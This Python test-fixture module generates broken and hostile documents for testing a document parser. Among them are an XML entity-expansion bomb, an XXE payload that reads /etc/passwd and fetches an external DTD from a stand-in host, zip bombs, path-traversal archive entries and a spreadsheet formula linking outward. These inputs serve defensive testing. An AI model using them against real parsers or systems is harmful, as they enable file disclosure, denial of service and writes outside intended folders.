"""Three hundred files that are broken, mean, or not what they are called."""

import random
from collections.abc import Iterator, Mapping
from email.message import EmailMessage
from typing import Final

from tests.formats.documents import Words, excel, pdf, word, zipped

SENTENCE: Final = "山田太郎氏は「行く」と述べた。"
HTML: Final = (
    f"<!DOCTYPE html><html><head><meta charset=utf-8><title>港</title></head><body><article><h1>港</h1><p>{SENTENCE * 5}</p>"
    "</article></body></html>"
)
NITF: Final = (
    f"<?xml version='1.0'?><nitf><body><body.head><hedline><hl1>港</hl1></hedline></body.head><body.content><p>{SENTENCE}</p>"
    "</body.content></body></nitf>"
)
CUTS: Final = 9
FLIPS: Final = 12
BOMB: Final = "<!DOCTYPE a [<!ENTITY a 'あ'>" + "".join(
    f"<!ENTITY {chr(98 + place)} '{f'&{chr(97 + place)};' * 20}'>" for place in range(12)
)
OUTSIDE: Final = (
    '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://192.0.2.1/b.dtd">%b;]>'
)


def mail() -> bytes:
    """A mail with an attachment."""
    message = EmailMessage()
    message["From"] = "a@example.com"
    message["Subject"] = "港の図書館"
    message["Date"] = "Wed, 1 Apr 2026 09:00:00 +0900"
    message.set_content(SENTENCE * 3)
    message.add_attachment(b"\0" * 100, maintype="image", subtype="png", filename="../../a.png")
    return message.as_bytes()


def whole() -> Mapping[str, bytes]:
    """A sound file of each format."""
    return {
        "a.txt": f"港\n\n{SENTENCE}".encode("cp932"),
        "a.md": f"---\ntitle: 港\n---\n# 港\n\n**{SENTENCE}**".encode(),
        "a.html": HTML.encode(),
        "a.eml": mail(),
        "a.csv": f'見出し,本文,日付\n港,"{SENTENCE}",2026/4/1\n駅,{SENTENCE}二,いつか\n'.encode(),
        "a.xml": NITF.encode(),
        "a.docx": word("港", SENTENCE, SENTENCE),
        "a.xlsx": excel([("見出し", "本文"), ("港", SENTENCE), ("駅", SENTENCE)]),
        "a.pdf": pdf([Words(50, 700, "港", 20), Words(50, 650, SENTENCE)], [Words(50, 700, SENTENCE)]),
        "a.zip": zipped(
            {"a.txt": SENTENCE, "b.docx": word(SENTENCE), "c.pdf": pdf([Words(50, 700, SENTENCE)])}
        ),
    }


def broken() -> Iterator[tuple[str, bytes]]:
    """Each format cut off, with bits turned over, and under the names of the others."""
    files = whole()
    chance = random.Random(0)
    for name, data in files.items():
        stem, suffix = name.split(".")
        for cut in range(CUTS):
            yield f"cut{cut}.{suffix}", data[: len(data) * cut // CUTS]
        for flip in range(FLIPS):
            turned = bytearray(data)
            for _ in range(1 + flip * 2):
                turned[chance.randrange(len(turned))] ^= 1 << chance.randrange(8)
            yield f"flip{flip}.{suffix}", bytes(turned)
        for other in files:
            yield f"{stem}-{suffix}.{other.split('.')[1]}", data


def mean() -> Iterator[tuple[str, bytes]]:
    """Bombs, entities, locks, ways out of the folder, and what looks like something else."""
    types = {"[Content_Types].xml": ""}
    yield "bomb.xml", f"{BOMB}]><nitf><p>&m;</p></nitf>".encode()
    yield "outside.xml", f"{OUTSIDE}<nitf><p>&a;</p></nitf>".encode()
    yield "outside.html", f"{OUTSIDE}<html><body><p>&a;</p></body></html>".encode()
    yield "bomb.docx", word(SENTENCE, before=f"{BOMB}]>")
    yield "outside.docx", word(SENTENCE, before=OUTSIDE)
    yield "bomb.xlsx", zipped(types | {"xl/workbook.xml": f"{BOMB}]><workbook>&m;</workbook>"})
    yield "zeros.zip", zipped({"a.txt": bytes(40_000_000)})
    yield "zeros.docx", zipped(types | {"word/document.xml": bytes(40_000_000)})
    yield "zeros.xlsx", zipped(types | {"xl/workbook.xml": bytes(40_000_000)})
    yield "nested.zip", zipped({"a.zip": zipped({"b.zip": zipped({"c.txt": SENTENCE})})})
    yield (
        "out.zip",
        zipped({"../../out.txt": SENTENCE, "/etc/out.txt": SENTENCE, "\\\\host\\out.txt": SENTENCE}),
    )
    yield "same.zip", zipped({"a.txt": SENTENCE, "A.TXT": SENTENCE, "./a.txt": SENTENCE})
    yield "many.zip", zipped({f"{number}.txt": "" for number in range(300)})
    yield (
        "locked.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999) + "EncryptedPackage".encode("utf-16-le"),
    )
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(999)
    yield (
        "locked.pdf",
        pdf(
            [],
            trailer=f"/Encrypt<</Filter/Standard/V 1/R 2/O<{'ab' * 32}>/U<{'cd' * 32}>/P -4>>/ID[<00><00>]",
        ),
    )
    yield "unheard.pdf", pdf([], trailer="/Encrypt<</Filter/Klingon>>/ID[<00><00>]")
    yield "itself.pdf", pdf([], form="/X Do")
    yield "images.pdf", pdf([], [], [])
    yield "deep.html", b"<html><body>" + b"<div>" * 20_000 + SENTENCE.encode()
    yield "deep.xml", b"<nitf>" + b"<p>" * 20_000
    yield "deep.eml", b"From: a@b\nTo: a@b\n" + b"Content-Type: multipart/mixed; boundary=a\n\n--a\n" * 3000
    yield "headers.eml", b"From: a@b\nTo: a@b\n" + b"X: y\n" * 50_000
    yield "field.csv", b'text\n"' + b"a" * 3_000_000
    yield "columns.csv", b"text\n" + b"," * 1_000_000
    yield "lines.csv", b"text" + b"\n" * 1_000_000
    yield "own.csv", "番号,状態,発言者,発言,記事\n1,未確認,山田,「行く」,港\n".encode()
    yield "marks.md", "行く。".encode() + b"[a](" * 30_000 + b"<!--" * 30_000
    yield "nul.txt", bytes(1000)
    yield "control.txt", bytes(range(256)) * 20
    yield "picture.txt", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(99)
    yield "line.txt", "行".encode() * 100_000
    yield "slides.pptx", zipped(types | {"ppt/presentation.xml": ""})
    yield "a.rtf", b"{\\rtf1 a}"
    yield "a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(99)
    yield "rss.xml", b"<?xml version='1.0'?><rss><channel/></rss>"
    yield "formula.xlsx", excel([("本文",), ('=HYPERLINK("http://192.0.2.1/a")',), ("=1+1",)])
    yield "dates.csv", f"本文,日付\n{SENTENCE}三,2026年13月45日\n{SENTENCE}四,99999999\n".encode()
